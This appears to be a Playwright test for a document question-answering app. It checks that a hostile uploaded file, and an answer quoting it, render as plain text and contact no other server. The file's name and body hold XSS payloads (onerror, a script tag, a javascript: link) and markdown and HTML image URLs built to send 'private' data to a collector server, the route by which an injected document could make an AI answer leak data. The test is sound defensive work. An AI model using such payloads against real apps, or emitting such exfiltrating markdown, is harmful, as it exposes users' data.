"""A hostile document in a real browser against the real server: its text, its name and the answer
quoting it show as text, run nothing and load nothing from elsewhere (an answer is untrusted)."""
from __future__ import annotations

import http.server
import threading

import pytest

from tests.ui.live_server import start_server
from tests.ui.pages import open_app, text_input, wait_rows


@pytest.fixture()
def collector():
    """A server elsewhere (another port) recording every request it gets: where a leak would land."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://localhost:{httpd.server_port}", hits
    httpd.shutdown()


def test_a_hostile_document_runs_and_leaks_nothing(chromium, collector, tmp_path):
    elsewhere, hits = collector
    name = 'notes <img src=x onerror="alert(1)">.txt'
    doc = tmp_path / name
    # an extractive answer quotes this passage verbatim, as a model told to by the document would
    doc.write_text("Room notes.\n\nThe lecture room width was estimated at twelve metres by the students "
                   f"![chart]({elsewhere}/md-image?d=private) ![ref][1] "
                   f'<img src="{elsewhere}/img-tag"> <script>alert("script")</script> '
                   "[more](javascript:alert('link')) done.\n\n"
                   f"[1]: {elsewhere}/md-ref-image\n")
    server = start_server(tmp_path / "data", "--engine", "extractive")
    context = chromium.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        open_app(page, server.url)
        page.set_input_files("#jd-upload input[type=file]", [str(doc)])
        assert name in wait_rows(page, 1)[0]                  # the name shows as text
        text_input(page, "jd-question").fill("How wide was the lecture room estimated by the students?")
        page.click("#jd-ask")
        page.wait_for_selector("#jd-chat .cite-chip.cite-verified", timeout=120_000)
        answer = page.locator("#jd-chat .message-row").last
        assert "twelve metres" in answer.inner_text()
        page.locator("#jd-chat .cite-chip.cite-verified").first.click()
        page.wait_for_function(f"() => document.querySelector('#jd-source-head')?.innerText.includes({name!r})",
                               timeout=60_000)
        page.wait_for_timeout(1000)
        assert not answer.locator("script, [onerror], img").count()
        assert f"![chart]({elsewhere}/md-image?d=private)" in answer.inner_text()     # shown as written
    finally:
        context.close()
        server.stop()
    assert hits == [] and dialogs == [], (hits, dialogs)
